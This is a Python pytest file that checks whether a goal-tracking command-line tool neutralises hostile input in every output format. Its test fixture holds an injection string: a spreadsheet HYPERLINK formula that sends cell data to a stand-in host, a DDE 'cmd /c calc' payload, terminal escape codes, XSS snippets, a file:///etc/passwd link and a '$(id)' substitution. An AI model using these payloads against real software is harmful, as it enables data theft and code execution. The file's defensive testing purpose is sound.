"""One adversarial note, and names to match, carried through every output: it is shown in each and acts in none.

A new format is a line in FORMATS: a name, the arguments of a run, and the check that its output must pass.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tomllib
from collections.abc import Callable, Iterable
from html.parser import HTMLParser

import openpyxl
import pytest
from children import run, surroundings
from markdown_it import MarkdownIt
from office import Office
from terminals import on_terminal

# What a terminal obeys; what turns, hides or joins text; line breaks of every kind.
ACTING = "\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ud800-\udfff"
FORMULA = re.compile(r"[=+\-@＝＋－＠\t\r\n]")
MARK = "MARK7"
# Every kind of harm in one text. It begins as a formula and ends as a link; MARK7 tells that it is there.
NOTE = (
    f"=HYPERLINK(\"http://e.example/?x=\"&A1,\"{MARK}\")|cmd'/c calc'!A0\t\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b31m\r\n"
    "\u202egnp.exe\u2066\u200b\u2028<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;'\"><svg/onload=x>"
    "[red]markup[/red][link=file:///etc/passwd]x[/link][/] **bold** _x001B_ `code` [a](javascript:alert(1)) | cell |\n"
    '# HELP x\nx{y="z"} 1\n'
    "{{7*7}}${7*7}{0}%s%(x)s\\u001b\\n ]]> --> end"
)  # fmt: skip
# What targets.toml lets pass in a name: no control character, but markup, formulas and HTML.
NAME = f'=1+1 {MARK} <b onclick="x">[red]N[/red] [/] | `x` {{{{7*7}}}} $(id) %s & "q" \\ ]]>'
GOALS = f"""
title = {json.dumps(NAME)}
year = 2025
[[districts]]
id = "east"
name = {json.dumps("@" + NAME)}
[[targets]]
id = "parks"
name = {json.dumps(NAME)}
measure = "total"
goal = 100
unit = "个"
section = {json.dumps("+" + NAME)}
owner = {json.dumps("-" + NAME)}
source = {json.dumps(NAME)}
note = {json.dumps(NAME)}
"""
WITNESSES = ("--note", NOTE, "--by", NOTE, "--evidence", f"x://{NOTE}")

Check = Callable[[str], object]


@pytest.fixture
def desk(office: Office) -> Office:
    """Goals and an entry full of harm."""
    office.write(GOALS)
    assert 0 == office.run("record", "parks", "1", "--district", "east", "--date", "2025-06-30", *WITNESSES).code
    (office.folder / "bad.csv").write_text(
        f'target,value\n"{NOTE.replace(chr(34), chr(34) * 2)}",x\n', encoding="utf-8"
    )
    return office


def inert_text(out: str) -> None:
    """For people: nothing in it acts on a terminal."""
    assert MARK in out
    assert None is re.search(f"[{ACTING}]", out)


def inert_cells(delimiter: str) -> Check:
    """For spreadsheets: nothing in it acts on a terminal, and no cell is a formula."""

    def check(out: str) -> None:
        inert_text(out)
        cells_of(delimiter)(out)

    return check


def cells_of(delimiter: str) -> Check:
    """No cell begins as a formula does; numbers may."""

    def check(out: str) -> None:
        cells = [cell for line in csv.reader(io.StringIO(out, newline=""), delimiter=delimiter) for cell in line]
        assert any(MARK in cell for cell in cells)
        assert [] == [cell for cell in cells if FORMULA.match(cell) and not re.fullmatch(r"-?[0-9.]+", cell)]

    return check


def texts_in(document: object) -> Iterable[str]:
    """Every text in a JSON or TOML document."""
    if isinstance(document, str):
        yield document
    inner = document.values() if isinstance(document, dict) else document if isinstance(document, list) else ()
    for value in inner:
        yield from texts_in(value)


def json_document(out: str) -> None:
    """For programs: the texts are whole, and what a terminal would obey is escaped."""
    inert_text(out)
    texts = set(texts_in(json.loads(out)))
    assert {NOTE, NAME} & texts or any(MARK in text for text in texts)


def json_lines(out: str) -> None:
    """The same, a document a line."""
    for line in out.splitlines():
        json_document(line)


def toml_document(out: str) -> None:
    """The texts are whole, and not a key more stands there."""
    [entry] = tomllib.loads(out)["entries"]
    assert NOTE == entry["note"]


def workbook_cells(out: bytes) -> None:
    """No cell is a formula or a link, and the note is whole."""
    sheet = openpyxl.load_workbook(io.BytesIO(out)).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert [] == [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert any(MARK in str(cell.value) for cell in cells)


def one_line(out: str) -> None:
    """For a monitor: one line, one bar that ends its text, and nothing that acts."""
    inert_text(out)
    assert (1, 1) == (len(out.splitlines()), out.count("|"))


class Tags(HTMLParser):
    """The elements of a page and their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def web_page(out: str) -> None:
    """For a browser: no element and no attribute comes from a text, and nothing leads elsewhere."""
    inert_text(out)
    tags = Tags(out).elements
    assert set() == {"script", "img", "iframe", "object", "link"} & {tag for tag, _attributes in tags}
    names = {name for _tag, attributes in tags for name in attributes}
    assert [] == [name for name in names if name.startswith("on") or name in {"style", "src", "xlink:href"}]
    assert [] == [names["href"] for _tag, names in tags if not str(names.get("href", "#")).startswith("#")]


def rendered_text(out: str) -> None:
    """For a chat or a forge: rendered, a name is the text it is, without emphasis, link, code or HTML."""
    inert_text(out)
    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(out)
    types = {inner.type for token in tokens for inner in (token, *(token.children or ()))}
    harmful = {"link_open", "image", "code_inline", "html_inline", "html_block", "fence", "em_open"}
    assert set() == harmful & types
    # The zero-width marks that keep chats from making links are not part of the name.
    assert MARK in out


def exposition(out: str) -> None:
    """For a monitor: every line is a comment of ours or one sample, whatever stands in its labels."""
    inert_text(out)
    line = re.compile(
        r'# (?:HELP|TYPE) ordos_targets_\w+ .+|ordos_targets_\w+(?:\{(?:\w+="(?:[^"\\]|\\.)*",?)*\})? [-0-9.e+]+'
    )
    assert [] == [text for text in out.splitlines() if not line.fullmatch(text)]


LOG, SHOW, STATUS = ("log",), ("show", "parks"), ("status", "--as-of", "2025-07-05")
FORMATS: list[tuple[str, tuple[str, ...], Check]] = [
    ("status as a table", STATUS, inert_text),
    ("status by section", (*STATUS, "--by", "section"), inert_text),
    ("status by owner", (*STATUS, "--by", "owner"), inert_text),
    ("status by district", (*STATUS, "--by", "district"), inert_text),
    ("status since", (*STATUS, "--since", "2025-05-31"), inert_text),
    ("status as json", (*STATUS, "--format", "json"), json_document),
    ("status as jsonl", (*STATUS, "--format", "jsonl"), json_lines),
    ("status as csv", (*STATUS, "--format", "csv"), inert_cells(",")),
    ("status as tsv", (*STATUS, "--format", "tsv"), inert_cells("\t")),
    ("a page", ("report", "--format", "html", *STATUS[1:]), web_page),
    ("a text for a chat", ("report", "--format", "markdown", *STATUS[1:]), rendered_text),
    ("metrics", ("report", "--format", "prometheus", *STATUS[1:]), exposition),
    ("status for a monitor", (*STATUS, "--nagios"), one_line),
    ("show as a table", SHOW, inert_text),
    ("show with formulas", (*SHOW, "--explain"), inert_text),
    ("show as json", (*SHOW, "--format", "json"), json_document),
    ("show as csv", (*SHOW, "--format", "csv"), inert_cells(",")),
    ("log as a table", LOG, inert_text),
    ("log as json", (*LOG, "--format", "json"), json_document),
    ("log as jsonl", (*LOG, "--format", "jsonl"), json_lines),
    ("log as csv", (*LOG, "--format", "csv"), inert_cells(",")),
    ("log as tsv", (*LOG, "--format", "tsv"), inert_cells("\t")),
    ("export as csv", ("export", "--format", "csv"), cells_of(",")),
    ("export as tsv", ("export", "--format", "tsv"), cells_of("\t")),
    ("export as csv for Excel", ("export", "--format", "csv", "--excel"), cells_of(",")),
    ("export as jsonl", ("export", "--format", "jsonl"), json_lines),
    ("export as toml", ("export", "--format", "toml"), toml_document),
    ("an anchor", ("verify", "--write-anchor", "-"), json_document),
    ("what an entry changed", ("record", "parks", "1", "--date", "2025-06-30", "--dry-run"), inert_text),
    ("what a void cancels", ("void", "1", "--why", NOTE, "--dry-run"), inert_text),
]
FAILING: list[tuple[str, tuple[str, ...], int]] = [
    ("a bad import", ("import", "bad.csv"), 4),
    ("an unknown target", ("show", NOTE), 2),
    ("an unknown district", ("status", "--district", NOTE), 2),
    ("an unreadable figure", ("record", "parks", NOTE), 2),
    ("an unreadable day", ("record", "parks", "1", "--date", NOTE), 2),
    ("an unreadable moment", ("status", "--known-at", NOTE), 2),
    ("an unknown status", ("status", "--only", NOTE), 2),
    ("an unknown entry", ("void", NOTE, "--why", "x"), 2),
    ("an unknown command", (NOTE,), 2),
    ("an unknown option", (f"--{NOTE}",), 2),
    ("an unknown language", ("--lang", NOTE), 2),
    ("an unknown format", ("status", "--format", NOTE), 2),
    ("evidence that is not there", ("record", "parks", "1", "--evidence", NOTE), 2),
    ("a file that is not there", ("import", NOTE, "--format", "csv"), 4),
    ("goals that are not there", ("status", "-t", NOTE), 4),
    ("a ledger that is not there", ("status", "--ledger", f"nowhere/{NOTE}"), 5),
    ("an output that cannot be", ("status", "-o", f"nowhere/{NOTE}"), 1),
    ("a head that is none", ("verify", "--head", NOTE), 2),
    ("anchors that are not there", ("verify", "--against", NOTE), 4),
    ("too many arguments", ("check", NOTE), 2),
]


@pytest.mark.parametrize(("arguments", "check"), [case[1:] for case in FORMATS], ids=[case[0] for case in FORMATS])
def test_a_note_full_of_harm_acts_in_no_output(arguments: tuple[str, ...], check: Check, desk: Office) -> None:
    """Whatever a note or a name holds, it is text in every format."""
    ran = desk.run(*arguments)
    assert "" == ran.err
    assert ran.code in {0, 1, 2} if "--nagios" in arguments else ran.code == 0
    check(ran.out)


@pytest.mark.parametrize("ending", ["csv", "tsv", "jsonl", "toml", "xlsx"])
def test_a_note_full_of_harm_comes_back_to_the_letter(ending: str, desk: Office) -> None:
    """What an export made harmless is the same text again after an import, and the file itself holds nothing live."""
    assert 0 == desk.run("export", "-o", f"a.{ending}").code
    if ending == "xlsx":
        workbook_cells((desk.folder / "a.xlsx").read_bytes())
    assert 0 == desk.run("--ledger", "copy.db", "import", f"a.{ending}").code
    [before], [after] = (desk.json(*ledger, "log")["entries"] for ledger in ((), ("--ledger", "copy.db")))
    assert before == after
    assert NOTE == after["note"]


def test_a_workbook_of_the_status_holds_no_formula(desk: Office) -> None:
    """Every sheet of the workbook, that of the entries among them, shows the texts and runs none."""
    assert 0 == desk.run("report", "-o", "a.xlsx", *STATUS[1:]).code
    book = openpyxl.load_workbook(desk.folder / "a.xlsx")
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert [] == [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert any(MARK in str(cell.value) for cell in cells)


FORMS: dict[str, tuple[str, ...]] = {
    "words": (), "json": ("--format", "json"), "a monitor": ("--nagios",), "a trace": ("--debug",),
    "Chinese": ("--lang", "zh"),
}  # fmt: skip
# An option that is given twice counts as it was given last.
TOLD = [
    pytest.param(arguments, code, form, id=f"{name}-{form}")
    for name, arguments, code in FAILING
    for form, more in FORMS.items()
    if not {*more[:1]} & {*arguments}
]


@pytest.mark.parametrize(("arguments", "code", "form"), TOLD)
def test_a_word_full_of_harm_acts_in_no_message(arguments: tuple[str, ...], code: int, form: str, desk: Office) -> None:
    """What was typed or read is told back as text: to people, programs and monitors, and in a trace."""
    ran = desk.run(*arguments, *FORMS[form])
    if form in {"words", "a trace"}:
        assert (code, "") == (ran.code, ran.out)
    assert ran.code != 0
    assert None is re.search(f"[{ACTING}]", ran.out + ran.err)
    assert ("Traceback" in ran.err) == (form == "a trace")
    if form == "words":
        assert all(line.startswith(("ordos-targets: error: ", "  ")) for line in ran.err.splitlines())


TERMINAL: list[tuple[str, ...]] = [STATUS, LOG, SHOW, (*SHOW, "--explain"), ("export", "--format", "csv"),
                                   ("export", "--format", "toml"), ("export", "--format", "jsonl")]  # fmt: skip


@pytest.mark.parametrize("arguments", TERMINAL, ids=" ".join)
def test_on_a_terminal_it_acts_no_more(
    arguments: tuple[str, ...], desk: Office, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is drawn in a window, and the files of an export that are looked at in one, obey no note."""
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "400")
    ran = desk.run(*arguments)
    assert (0, "") == (ran.code, ran.err)
    plain = re.sub(r"\x1b\[(?:[0-9;]*)m", "", ran.out)  # bold and faint, which are ours
    assert "owned" in plain or arguments == STATUS
    assert None is re.search(f"[{ACTING}]", plain)
    assert None is re.search(r"\x1b\[(?!0?m|[12]m)[0-9;]*[A-Za-z]|\x1b\]", ran.out)


def test_a_process_of_its_own_prints_no_more(desk: Office) -> None:
    """The same on a terminal of its own, and in a process as people start it, with a file whose name is no text."""
    code, shown = on_terminal(desk.folder, "log", env={"NO_COLOR": "1", "COLUMNS": "400"})
    plain = re.sub(r"\x1b\[[0-9;]*m", "", shown).replace("\r\n", "\n")
    assert (0, True, None) == (code, "owned" in plain, re.search(f"[{ACTING}]", plain))
    name = b"\xff\x1b[31m.csv"
    (desk.folder / name.decode("utf-8", "surrogateescape")).write_bytes(b"target,value\nx,1\n")
    ran = run(desk.folder, "import", name.decode("utf-8", "surrogateescape"), env=surroundings())
    assert (4, "", True) == (ran.returncode, ran.stdout, r"\udcff\x1b[31m.csv" in ran.stderr)
